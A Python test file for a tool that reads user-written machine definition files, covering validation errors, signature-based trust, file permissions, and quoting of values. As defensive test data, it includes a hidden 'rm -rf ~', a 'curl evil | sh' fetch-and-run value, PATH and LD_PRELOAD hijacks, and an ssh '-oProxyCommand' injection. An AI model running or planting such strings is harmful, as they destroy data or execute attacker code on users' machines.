"""Files of a user's own machines: what is wrong in them is said, and values never become words or options."""

from __future__ import annotations

import json
import os
import shlex
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from guestmark.cli.commands.machine import Options
from guestmark.cli.do.machine import run
from guestmark.cli.options import list_platforms
from guestmark.core.errors import UsageError
from guestmark.core.home import find_state_directory
from guestmark.platforms.own import inside
from guestmark.platforms.own.definition import Template, parse_definition, read_definition
from guestmark.platforms.own.platform import parse_pid
from guestmark.platforms.own.store import (
    VARIABLE,
    add_file,
    check_trust,
    describe_execution,
    find_definition,
    is_trusted,
    load_definitions,
    locate_machines_directory,
    trust,
)

SOUND = {
    "name": '"box"',
    "create": '"tool run {id} {image}"',
    "exec": '"tool exec {id} {command}"',
    "destroy": '"tool rm {id}"',
}
SAVING = {
    "snapshot": '"tool save {id} {snapshot}"',
    "restore": '"tool load {id} {snapshot}"',
    "discard": '"tool forget {snapshot}"',
}
PARAMETERS = '\n[parameters]\nimage = "debian"\n'


def text_of(**changes: str) -> str:
    lines = {**SOUND, **changes}
    text = "".join(f"{key} = {value}\n" for key, value in lines.items() if value)
    return text if "parameters" in changes else text + PARAMETERS


@pytest.mark.parametrize(
    ("changes", "said"),
    [
        ({"name": '"Box"'}, "cannot be named 'Box'"),
        ({"name": ""}, "lacks the key `name`"),
        ({"exec": ""}, "lacks the key `exec`"),
        ({"exec": '"tool exec {id}"'}, "has no {command}"),
        ({"exec": "\"ssh {id} 'cd /; {command}'\""}, "inside an argument"),
        ({"exec": '"tool exec {id} {command...}"'}, "only a parameter is split into words"),
        ({"exec": '"tool exec {id} {line...} {command}"'}, "only a parameter is split into words"),
        ({"create": '"tool run {id...} {id}"'}, "only a parameter is split into words"),
        ({"create": '"tool run {image}"'}, "create has no {id}"),
        ({"destroy": ""}, "destroy has no {id}"),
        ({"create": ""}, "destroy needs create"),
        ({"create": '"tool run {id} {imgae}"'}, "the unknown placeholder {imgae}"),
        ({"list": '"tool list {id}"'}, "list has the unknown placeholder {id}"),
        ({"create": '"tool run {id} \'"'}, "No closing quotation"),
        ({"create": "7"}, "create: expected"),
        ({"destory": '"tool rm {id}"'}, "unknown key 'destory'"),
        ({"timeouts": "{ create = -1 }"}, "timeouts.create is -1 s"),
        ({"timeouts": "{ crate = 1 }"}, "crate"),
        ({"env": '{ "A-B" = "1" }'}, "not a valid variable name"),
        ({"create": '"tool \\u0007 {id}"'}, "control characters"),
        ({"env": '{ A = "\\u0000" }'}, "env: A has control characters"),
        ({"parameters": '{ image = "a\\u0000" }'}, "image has control characters"),
        (
            {"parameters": '{ image = { default = "a", levels = ["a", "\\u001b"] } }'},
            "image has control characters",
        ),
        ({"parameters": '{ image = "a", registry_token = "x" }'}, "registry_token sounds like a secret"),
        ({"help": '"a\\nown:other  a forged line"'}, "not one line"),
        ({"help": f'"{"x" * 300}"'}, "not one line"),
        ({"timeouts": "{ create = nan }"}, "timeouts.create is nan"),
        ({"timeouts": "{ create = inf }"}, "timeouts.create is inf"),
        ({"host": '"lab1:22"'}, "host cannot be 'lab1:22'"),
        ({"host": '"{where}"'}, "host has the unknown placeholder {where}"),
        ({"host": '"lab1"', "pid": '"tool pid {id}"'}, "pid cannot be combined with host"),
        ({"host": '"lab1"', "env": '{ A = "1" }'}, "env cannot be combined with host"),
        ({"snapshot": '"tool save {id} {snapshot}"'}, "snapshot needs restore and discard"),
        ({**SAVING, "discard": ""}, "snapshot needs discard"),
        ({**SAVING, "restore": '"tool load {snapshot}"'}, "restore has no {id}, so machines"),
        ({**SAVING, "snapshot": '"tool save {id}"'}, "snapshot has no {snapshot}, so snapshots"),
        ({**SAVING, "discard": '"tool forget {id}"'}, "discard has the unknown placeholder {id}"),
        ({"destroy": '"tool rm {id} {snapshot}"'}, "destroy has the unknown placeholder {snapshot}"),
        ({**SAVING, "create": "", "destroy": ""}, "snapshot needs create"),
    ],
)
def test_what_is_wrong_is_said(changes: dict[str, str], said: str) -> None:
    with pytest.raises(UsageError) as caught:
        parse_definition(text_of(**changes), Path("box.toml"))
    assert "box.toml" in caught.value.message
    assert said in caught.value.message
    assert caught.value.hint


def test_a_sound_file_is_read() -> None:
    definition = parse_definition(text_of(), Path("box.toml"))
    assert definition.list_placeholder_values({"image": "alpine"}) == {"image": "alpine"}
    assert definition.create.fill({"id": "i", "image": "a b"}) == ["tool", "run", "i", "a b"]
    assert definition.exec.fill({"id": "i"}, ["echo", "a b"]) == ["tool", "exec", "i", "echo", "a b"]


@given(value=st.text(), command=st.lists(st.text(st.characters(exclude_characters="\0")), min_size=1))
def test_values_stay_one_word_and_commands_stay_themselves(value: str, command: list[str]) -> None:
    words = Template(("tool", "--name={value}", "{value}", "{command}", "{line}"))
    filled = words.fill({"value": value}, command)
    assert filled[:3] == ["tool", f"--name={value}", value]
    assert filled[3:-1] == command
    assert shlex.split(filled[-1]) == command


@given(words=st.lists(st.text(st.characters(exclude_characters="\0"))))
def test_a_parameter_of_several_words_is_split_as_by_a_shell(words: list[str]) -> None:
    template = Template(("tool", "{options...}"))
    assert template.fill({"options": shlex.join(words)}) == ["tool", *words]


@pytest.fixture
def homes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    for variable in ("XDG_CONFIG_HOME", "XDG_STATE_HOME"):
        monkeypatch.setenv(variable, str(tmp_path / variable))
    return tmp_path


def test_every_shipped_definition_is_sound(homes: Path) -> None:
    found = load_definitions()
    assert {
        "podman",
        "docker",
        "kata",
        "nspawn",
        "lxc",
        "chroot",
        "pod",
        "incus",
        "lima",
        "gcloud",
        "firecracker",
        "cloud-hypervisor",
    } <= set(found)
    assert all(is_trusted(definition) and definition.help for definition in found.values())
    assert all(definition.path.stem == name for name, definition in found.items())


def test_a_foreign_file_is_trusted_by_its_text(homes: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = homes / "box.toml"
    path.write_text(text_of())
    monkeypatch.setenv(VARIABLE, str(path))
    with pytest.raises(UsageError, match="are not trusted yet"):
        check_trust(find_definition("box"))
    trust(find_definition("box"))
    check_trust(find_definition("box"))
    path.write_text(text_of(destroy='"tool rm {id} --all"'))
    with pytest.raises(UsageError, match="are not trusted yet"):
        check_trust(find_definition("box"))


def test_a_trusted_file_that_is_changed_in_any_byte_is_not_trusted(
    homes: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path, sound = homes / "box.toml", text_of().encode()
    path.write_bytes(sound)
    trust(read_definition(path))
    assert is_trusted(read_definition(path))
    refused = changed = 0
    for at in range(len(sound)):
        for bit in (0, 1, 5, 7):
            path.write_bytes(sound[:at] + bytes([sound[at] ^ 1 << bit]) + sound[at + 1 :])
            try:
                changed += not is_trusted(read_definition(path))
            except UsageError:
                refused += 1
    assert refused + changed == 4 * len(sound)
    assert changed


def test_only_what_ones_own_key_has_signed_is_trusted(homes: Path) -> None:
    """A list that somebody else has written, by whatever way, trusts nothing."""
    path = homes / "box.toml"
    path.write_text(text_of())
    definition = read_definition(path)
    trust(definition)
    (kept,) = [file for file in find_state_directory().iterdir() if "machines" in file.name]
    sound = kept.read_bytes()
    for at in range(len(sound) - 1):
        for bit in (0, 5):
            kept.write_bytes(sound[:at] + bytes([sound[at] ^ 1 << bit]) + sound[at + 1 :])
            assert not is_trusted(definition), kept.read_bytes()
    kept.write_text(f"{definition.digest}\n")
    assert not is_trusted(definition)
    kept.write_bytes(sound)
    assert is_trusted(definition)


def test_all_that_decides_what_is_executed_is_shown_and_visible() -> None:
    """Values of variables and parameters, too, whatever the commands themselves look like."""
    hidden = "# " + " " * 300 + "\n" * 40 + "rm -rf ~"
    text = text_of(
        create=f'["sh", "-c", "{{image}}", "{{id}}", {json.dumps(hidden)}]',
        env='{ PATH = "/tmp/evil", LD_PRELOAD = "x.so" }',
        parameters='{ image = "curl evil | sh", other = { default = "a", levels = ["a", "b\\nc"] } }',
    )
    shown = describe_execution(parse_definition(text, Path("box.toml")))
    assert all(line.isprintable() and "   rm" not in line for line in shown)
    for part in (
        r"\x20\x20", r"\nrm -rf ~", "41 lines", "PATH=/tmp/evil", "LD_PRELOAD=x.so", "'curl evil | sh'",
        "'b\nc'".replace("\n", "\\n"),
    ):  # fmt: skip
        assert any(part in line for line in shown), (part, shown)


def test_a_link_in_ones_own_folder_is_trusted_where_nobody_else_can_change_its_end(homes: Path) -> None:
    locate_machines_directory().mkdir(parents=True, mode=0o700)
    there = homes / "elsewhere"
    there.mkdir()
    (there / "box.toml").write_text(text_of())
    (locate_machines_directory() / "box.toml").symlink_to(there / "box.toml")
    for mode, trusted in ((0o700, True), (0o777, False), (0o1777, False)):
        there.chmod(mode)
        assert is_trusted(find_definition("box")) == trusted


@pytest.mark.parametrize("kind", ["fifo", "/dev/zero", "folder", "large", "a:b.toml"])
def test_what_is_no_file_of_a_machine_is_refused_at_once(homes: Path, kind: str) -> None:
    path = homes / kind
    match kind:
        case "fifo":
            os.mkfifo(path)
        case "/dev/zero":
            path = Path(kind)
        case "folder":
            path.mkdir()
        case "large":
            path.write_bytes(b"#" * (2 << 20))
        case _:
            path.write_text(text_of())
    with pytest.raises(UsageError) as caught:
        add_file(read_definition(path).path)
    assert caught.value.hint
    assert "\n" not in caught.value.message


@pytest.mark.parametrize(
    "said",
    [
        *("", "0", "-1", "²", "9" * 5000, "12 monkeys", "1\n2", "../1", "self", str(2**31), "1"),
        # Every worker has another number, and all have to have the same tests.
        pytest.param(str(os.getpid()), id="this process"),
    ],
)
def test_what_is_no_process_of_a_machine_is_not_taken_for_one(said: str) -> None:
    """Process 1 has started guestmark: the machine would consist of everything."""
    assert parse_pid(said) is None


@given(st.text(alphabet="0123456789-,²max ٣\n", max_size=40) | st.just("9" * 5000))
def test_no_number_of_a_machine_is_too_strange(text: str) -> None:
    assert inside._count_cpus(text) >= 0
    assert inside._parse_processor_quota(text) >= 0
    assert inside._read_memory_limit(text) >= 0


@pytest.mark.parametrize("mode", [0o600, 0o622])
def test_ones_own_folder_is_trusted_where_nobody_else_can_write(homes: Path, mode: int) -> None:
    locate_machines_directory().mkdir(parents=True, mode=0o700)
    path = locate_machines_directory() / "box.toml"
    path.write_text(text_of())
    path.chmod(mode)
    assert is_trusted(find_definition("box")) == (mode == 0o600)


def test_a_broken_file_does_not_hide_another(homes: Path) -> None:
    locate_machines_directory().mkdir(parents=True, mode=0o700)
    (locate_machines_directory() / "broken.toml").write_text("name = ")
    assert find_definition("podman").shipped
    assert os.access(locate_machines_directory(), os.R_OK)


@given(st.lists(st.text(st.characters(min_codepoint=32, max_codepoint=0x24F)), min_size=1))
def test_the_shell_of_another_host_gets_the_same_words(command: list[str]) -> None:
    """Whatever is in them: the last word that ssh gets is one line, which a shell splits into them again."""
    filled = Template(("tool", "{id}", "{command}"), "{user}@lab1").fill(
        {"id": "a b", "user": "root"}, command
    )
    assert filled[-2:-1] == ["root@lab1"]
    assert shlex.split(filled[-1]) == ["tool", "a b", *command]


def test_a_value_that_makes_no_host_is_refused(tmp_path: Path) -> None:
    definition = parse_definition(
        text_of(host='"{place}"', parameters='{ image = "debian", place = "lab1" }'), tmp_path / "box.toml"
    )
    assert definition.create.fill({**definition.list_placeholder_values({}), "id": "x"})[-2] == "lab1"
    for value in ("-oProxyCommand=true", "lab1 lab2", "[::1]", ""):
        with pytest.raises(UsageError, match="its host cannot be"):
            definition.list_placeholder_values({"place": value})


def test_the_name_in_a_file_counts_and_not_the_files(homes: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A file that is called otherwise is before the shipped one, which is called like the machine."""
    path = homes / "mine.toml"
    path.write_text(text_of(name='"podman"'))
    monkeypatch.setenv(VARIABLE, str(path))
    assert find_definition("podman").path == path
    broken = homes / "broken.toml"
    broken.write_text("name = ")
    monkeypatch.setenv(VARIABLE, f"{broken}:{path}")
    assert find_definition("podman").path == path
    with pytest.raises(UsageError, match="broken"):
        find_definition("nobody")


def test_two_files_with_one_name_are_refused(homes: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv(VARIABLE, raising=False)
    files = [homes / name for name in ("a.toml", "b.toml")]
    for file in files:
        file.write_text(text_of())
    with pytest.raises(UsageError, match="both define a machine named box"):
        list_platforms(None, list(map(str, files)))
    monkeypatch.delenv(VARIABLE, raising=False)
    assert list_platforms(["host"], [str(files[0])]) == ["host", "own:box"]


@pytest.mark.parametrize("values", [{"cpus": "500m"}, {"cpus": "0"}, {"memory": "512"}, {"memory": "much"}])
def test_values_that_cannot_be_compared_are_refused(values: dict[str, str]) -> None:
    with pytest.raises(UsageError, match="cannot be"):
        inside.check_values_can_be_compared(values)
    inside.check_values_can_be_compared({"cpus": "0.5", "memory": "512M", "image": "500m"})


@pytest.mark.parametrize(
    ("text", "processors"),
    [("max 100000", 0), ("-1 100000", 0), ("150000 100000", 1.5), ("150000\n100000\n", 1.5)],
)
def test_quotas_of_both_versions_of_control_groups_are_read(text: str, processors: float) -> None:
    assert inside._parse_processor_quota(text) == processors


def test_a_copy_keeps_parameters_whose_names_begin_like_the_name(homes: Path) -> None:
    folder = locate_machines_directory()
    folder.mkdir(parents=True, mode=0o700)
    origin = text_of(name='"origin"', create='"tool run {id} {namespace}"', parameters="").replace(
        "parameters = ", ""
    )
    (folder / "origin.toml").write_text("  " + origin + '\n[parameters]\nnamespace = "lab"\n')
    assert run(Options(action="new", machine="copy", origin="origin")) == 0
    copied = find_definition("copy")
    assert copied.name == "copy"
    assert copied.parameters["namespace"].default == "lab"
